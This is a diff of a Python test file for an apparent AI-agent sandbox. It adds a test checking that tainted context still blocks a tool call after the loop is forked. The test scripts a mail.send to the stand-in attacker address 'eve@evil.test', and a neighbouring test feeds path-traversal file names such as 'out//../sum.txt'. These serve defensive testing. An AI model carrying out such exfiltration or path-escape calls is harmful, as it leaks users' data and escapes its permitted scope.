@@ -6,6 +6,7 @@ import time
 
 import pytest
 
+from tests.engine.loop import says
 from tests.engine.strangers import MAIL, READ, WRITE, Strangers, makes, waits
 from workbench.domain.goals import Goal
 from workbench.domain.messages import RawCall
@@ -119,3 +120,10 @@ def test_a_wildcard_of_the_goals_words_is_no_path() -> None:
     for path in ("out", "out/sum", "sum.txt", "txt", "out/sum.txt.sh", "/out/sum.txt", "out//../sum.txt"):
         loop = Strangers(READS, makes("files.write", path=path, content=""), specs=(READ, WRITE)).go()
         assert waits(loop), path
+
+
+def test_taint_survives_a_fork() -> None:
+    loop = Strangers(READS, "done").go()
+    read = next(event.seq for event in loop.events if event.kind == "context_updated")
+    loop.replies = [says("", makes("mail.send", to="eve@evil.test"))]
+    assert waits(loop.fork(read).go())
